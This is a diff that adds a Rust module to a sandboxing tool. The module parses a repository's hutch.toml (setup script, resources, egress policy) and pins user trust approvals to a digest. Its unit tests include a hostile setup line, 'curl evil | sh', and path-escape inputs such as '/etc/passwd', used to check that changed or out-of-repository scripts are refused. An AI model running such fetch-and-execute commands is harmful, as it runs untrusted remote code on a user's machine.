@@ -1,0 +1,315 @@
+//! `hutch.toml`, a repository's proposal for its sandboxes (a setup script, resources, an egress policy), and
+//! the user's trust in it. The repository is untrusted input (threat 15): a proposal is used only after the
+//! user approved that exact content with `hutch trust`, pinned to a digest of the file and of the setup script
+//! it names, like `direnv allow`. Approvals live in the user's data directory, never in the repository.
+
+use std::path::{Path, PathBuf};
+
+use hutch_policy::CheckedPolicy;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+
+use crate::path::{check_path, show};
+use crate::{io_err, RepoError};
+
+pub const FILE_NAME: &str = "hutch.toml";
+const MAX_FILE: u64 = 64 * 1024;
+const MAX_SCRIPT: u64 = 1024 * 1024;
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RawProject {
+    setup: Option<String>,
+    resources: Option<RawResources>,
+    policy: Option<toml::Table>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RawResources {
+    cpus: Option<u32>,
+    memory: Option<u32>,
+}
+
+/// A setup script named by `hutch.toml`, with the bytes that were hashed (and are the ones that will run).
+#[derive(Debug, Clone)]
+pub struct SetupScript {
+    /// Relative to the repository's top.
+    pub path: String,
+    pub bytes: Vec<u8>,
+}
+
+/// `hutch.toml` in checked form.
+#[derive(Debug, Clone)]
+pub struct ProjectConfig {
+    pub file: PathBuf,
+    /// SHA-256 over the file and its setup script: what an approval is pinned to.
+    pub digest: String,
+    pub setup: Option<SetupScript>,
+    pub cpus: Option<u32>,
+    pub memory_mib: Option<u32>,
+    pub policy: Option<CheckedPolicy>,
+}
+
+fn bad(file: &Path, msg: impl std::fmt::Display) -> RepoError {
+    RepoError::Project(format!("{}: {msg}", file.display()))
+}
+
+fn read_capped(path: &Path, cap: u64, what: &str) -> Result<Vec<u8>, RepoError> {
+    let meta = std::fs::metadata(path).map_err(io_err(format!("cannot read {what} {}", path.display())))?;
+    if !meta.is_file() {
+        return Err(bad(path, format!("{what} is not a regular file")));
+    }
+    if meta.len() > cap {
+        return Err(bad(path, format!("{what} is larger than {} KiB", cap / 1024)));
+    }
+    std::fs::read(path).map_err(io_err(format!("cannot read {what} {}", path.display())))
+}
+
+impl ProjectConfig {
+    /// Reads and checks `<top>/hutch.toml`; `Ok(None)` when there is none.
+    pub fn load(top: &Path) -> Result<Option<ProjectConfig>, RepoError> {
+        let file = top.join(FILE_NAME);
+        if std::fs::symlink_metadata(&file).is_err() {
+            return Ok(None);
+        }
+        let text = read_capped(&file, MAX_FILE, "project config")?;
+        let text = String::from_utf8(text).map_err(|_| bad(&file, "is not UTF-8"))?;
+        Self::parse(top, &file, &text).map(Some)
+    }
+
+    fn parse(top: &Path, file: &Path, text: &str) -> Result<ProjectConfig, RepoError> {
+        let raw: RawProject = toml::from_str(text).map_err(|e| bad(file, e.message().trim_end()))?;
+        let setup = match &raw.setup {
+            None => None,
+            Some(p) => {
+                check_path(p.as_bytes()).map_err(|problem| bad(file, format!("setup = {p:?}: the path {problem}")))?;
+                let full = top.join(p);
+                // Resolved, it must still be inside the repository.
+                let real = full.canonicalize().map_err(io_err(format!("{}: setup script {} does not exist", file.display(), full.display())))?;
+                let top_real = top.canonicalize().map_err(io_err(format!("cannot resolve {}", top.display())))?;
+                if !real.starts_with(&top_real) {
+                    return Err(bad(file, format!("setup = {p:?} resolves outside the repository")));
+                }
+                Some(SetupScript { path: p.clone(), bytes: read_capped(&real, MAX_SCRIPT, "setup script")? })
+            }
+        };
+        let (cpus, memory_mib) = match &raw.resources {
+            None => (None, None),
+            Some(r) => {
+                if let Some(c) = r.cpus.filter(|c| !(1..=64).contains(c)) {
+                    return Err(bad(file, format!("resources.cpus = {c}: must be 1 to 64")));
+                }
+                if let Some(m) = r.memory.filter(|m| !(128..=65536).contains(m)) {
+                    return Err(bad(file, format!("resources.memory = {m}: must be 128 to 65536 (MiB)")));
+                }
+                (r.cpus, r.memory)
+            }
+        };
+        let policy = match &raw.policy {
+            None => None,
+            Some(t) => {
+                let text = toml::to_string(t).map_err(|e| bad(file, format!("[policy]: {e}")))?;
+                Some(CheckedPolicy::from_toml_str(&text, file).map_err(|e| bad(file, format!("[policy]: {e}")))?)
+            }
+        };
+        let mut h = Sha256::new();
+        h.update(b"hutch.toml\0");
+        h.update((text.len() as u64).to_le_bytes());
+        h.update(text.as_bytes());
+        if let Some(s) = &setup {
+            h.update(b"setup\0");
+            h.update((s.bytes.len() as u64).to_le_bytes());
+            h.update(&s.bytes);
+        }
+        Ok(ProjectConfig { file: file.to_path_buf(), digest: hex::encode(h.finalize()), setup, cpus, memory_mib, policy })
+    }
+
+    /// What the file asks for, one line each; empty when it asks for nothing.
+    pub fn asks(&self) -> Vec<String> {
+        let mut v = vec![];
+        if let Some(s) = &self.setup {
+            v.push(format!("a setup script, {} ({} bytes), run as root in the VM before the command", show(s.path.as_bytes()), s.bytes.len()));
+        }
+        if let Some(c) = self.cpus {
+            v.push(format!("{c} vCPUs"));
+        }
+        if let Some(m) = self.memory_mib {
+            v.push(format!("{m} MiB of memory"));
+        }
+        if let Some(p) = &self.policy {
+            let mut parts: Vec<String> = p.rules().iter().map(|r| r.to_string()).collect();
+            parts.extend(p.secrets().iter().map(|s| format!("secret {}", s.name())));
+            if parts.is_empty() {
+                parts.push("nothing allowed".into());
+            }
+            v.push(format!("an egress policy: {}", parts.join("; ")));
+        }
+        v
+    }
+}
+
+/// One approval, stored as `<trust dir>/<key>`.
+#[derive(Debug, Serialize, Deserialize)]
+struct Approval {
+    file: PathBuf,
+    digest: String,
+}
+
+/// The user's approvals of project configs.
+#[derive(Debug, Clone)]
+pub struct TrustStore {
+    dir: PathBuf,
+}
+
+/// Whether a project config may be used.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Trust {
+    Trusted,
+    /// Never approved.
+    Unknown,
+    /// An earlier version was approved; this one was not.
+    Changed,
+}
+
+impl TrustStore {
+    pub fn at(dir: PathBuf) -> TrustStore {
+        TrustStore { dir }
+    }
+
+    /// `$XDG_DATA_HOME/hutch/trust`, else `~/.local/share/hutch/trust`.
+    pub fn from_env() -> Result<TrustStore, RepoError> {
+        let var = |k: &str| std::env::var_os(k).map(PathBuf::from).filter(|p| p.is_absolute());
+        let base = var("XDG_DATA_HOME")
+            .or_else(|| var("HOME").map(|h| h.join(".local/share")))
+            .ok_or_else(|| RepoError::Project("neither XDG_DATA_HOME nor HOME is set; hutch cannot keep trust approvals".into()))?;
+        Ok(TrustStore { dir: base.join("hutch/trust") })
+    }
+
+    pub fn dir(&self) -> &Path {
+        &self.dir
+    }
+
+    fn key(cfg: &ProjectConfig) -> String {
+        let mut h = Sha256::new();
+        h.update(cfg.file.as_os_str().as_encoded_bytes());
+        h.update(b"\0");
+        h.update(cfg.digest.as_bytes());
+        hex::encode(h.finalize())
+    }
+
+    fn approvals(&self) -> Vec<(PathBuf, Approval)> {
+        std::fs::read_dir(&self.dir)
+            .into_iter()
+            .flatten()
+            .flatten()
+            .filter_map(|e| Some((e.path(), serde_json::from_slice::<Approval>(&std::fs::read(e.path()).ok()?).ok()?)))
+            .collect()
+    }
+
+    pub fn check(&self, cfg: &ProjectConfig) -> Trust {
+        if self.dir.join(Self::key(cfg)).is_file() {
+            Trust::Trusted
+        } else if self.approvals().iter().any(|(_, a)| a.file == cfg.file) {
+            Trust::Changed
+        } else {
+            Trust::Unknown
+        }
+    }
+
+    /// Approves this exact content, replacing earlier approvals of the same file.
+    pub fn trust(&self, cfg: &ProjectConfig) -> Result<(), RepoError> {
+        self.revoke(&cfg.file)?;
+        std::fs::create_dir_all(&self.dir).map_err(io_err(format!("cannot create {}", self.dir.display())))?;
+        let a = Approval { file: cfg.file.clone(), digest: cfg.digest.clone() };
+        let body = serde_json::to_vec(&a).map_err(|e| RepoError::Io { what: "cannot encode an approval".into(), source: e.into() })?;
+        let path = self.dir.join(Self::key(cfg));
+        let tmp = self.dir.join(format!(".tmp-{}", std::process::id()));
+        std::fs::write(&tmp, body).map_err(io_err(format!("cannot write {}", tmp.display())))?;
+        std::fs::rename(&tmp, &path).map_err(io_err(format!("cannot write {}", path.display())))
+    }
+
+    /// Removes every approval of `file`; returns how many there were.
+    pub fn revoke(&self, file: &Path) -> Result<usize, RepoError> {
+        let mut n = 0;
+        for (p, a) in self.approvals() {
+            if a.file == file {
+                std::fs::remove_file(&p).map_err(io_err(format!("cannot remove {}", p.display())))?;
+                n += 1;
+            }
+        }
+        Ok(n)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn repo_with(toml: &str) -> tempfile::TempDir {
+        let t = tempfile::tempdir().unwrap();
+        std::fs::write(t.path().join(FILE_NAME), toml).unwrap();
+        std::fs::create_dir(t.path().join("scripts")).unwrap();
+        std::fs::write(t.path().join("scripts/setup.sh"), "#!/bin/sh\necho hi\n").unwrap();
+        t
+    }
+
+    #[test]
+    fn a_full_config_parses_and_lists_its_asks() {
+        let t = repo_with(
+            "setup = \"scripts/setup.sh\"\n[resources]\ncpus = 2\nmemory = 2048\n[policy]\nallow = [\"api.example.com\"]\n",
+        );
+        let cfg = ProjectConfig::load(t.path()).unwrap().unwrap();
+        assert_eq!(cfg.cpus, Some(2));
+        assert_eq!(cfg.memory_mib, Some(2048));
+        assert_eq!(cfg.setup.as_ref().unwrap().bytes, b"#!/bin/sh\necho hi\n");
+        let asks = cfg.asks().join("\n");
+        assert!(asks.contains("scripts/setup.sh") && asks.contains("2048 MiB") && asks.contains("api.example.com"), "{asks}");
+    }
+
+    #[test]
+    fn bad_configs_are_refused_with_the_reason() {
+        let cases = [
+            ("memory = 1\n", "unknown field"),
+            ("[resources]\nmemory = 1000000\n", "resources.memory"),
+            ("[resources]\ncpus = 0\n", "resources.cpus"),
+            ("setup = \"../outside.sh\"\n", "component"),
+            ("setup = \"/etc/passwd\"\n", "absolute"),
+            ("setup = \"missing.sh\"\n", "does not exist"),
+            ("[policy]\nallow = [\"*\"]\n", "[policy]"),
+            ("[policy]\nbogus = 1\n", "[policy]"),
+        ];
+        for (text, want) in cases {
+            let t = repo_with(text);
+            let e = ProjectConfig::load(t.path()).unwrap_err().to_string();
+            assert!(e.contains(want), "{text:?}: {e}");
+        }
+        let t = repo_with("");
+        std::os::unix::fs::symlink("/etc/hostname", t.path().join("link.sh")).unwrap();
+        std::fs::write(t.path().join(FILE_NAME), "setup = \"link.sh\"\n").unwrap();
+        assert!(ProjectConfig::load(t.path()).unwrap_err().to_string().contains("outside the repository"));
+        assert!(ProjectConfig::load(tempfile::tempdir().unwrap().path()).unwrap().is_none());
+        assert!(ProjectConfig::load(repo_with("").path()).unwrap().unwrap().asks().is_empty());
+    }
+
+    #[test]
+    fn trust_is_pinned_to_the_file_and_its_setup_script() {
+        let t = repo_with("setup = \"scripts/setup.sh\"\n");
+        let store = TrustStore::at(t.path().join("data/trust"));
+        let cfg = ProjectConfig::load(t.path()).unwrap().unwrap();
+        assert_eq!(store.check(&cfg), Trust::Unknown);
+        store.trust(&cfg).unwrap();
+        assert_eq!(store.check(&ProjectConfig::load(t.path()).unwrap().unwrap()), Trust::Trusted);
+        // The script changes, the file does not: approval needed again.
+        std::fs::write(t.path().join("scripts/setup.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let changed = ProjectConfig::load(t.path()).unwrap().unwrap();
+        assert_eq!(store.check(&changed), Trust::Changed);
+        store.trust(&changed).unwrap();
+        assert_eq!(store.check(&changed), Trust::Trusted);
+        assert_eq!(std::fs::read_dir(store.dir()).unwrap().count(), 1, "re-approving replaces the old approval");
+        std::fs::write(t.path().join(FILE_NAME), "setup = \"scripts/setup.sh\"\n[resources]\nmemory = 4096\n").unwrap();
+        assert_eq!(store.check(&ProjectConfig::load(t.path()).unwrap().unwrap()), Trust::Changed);
+        assert_eq!(store.revoke(&changed.file).unwrap(), 1);
+        assert_eq!(store.check(&changed), Trust::Unknown);
+    }
+}
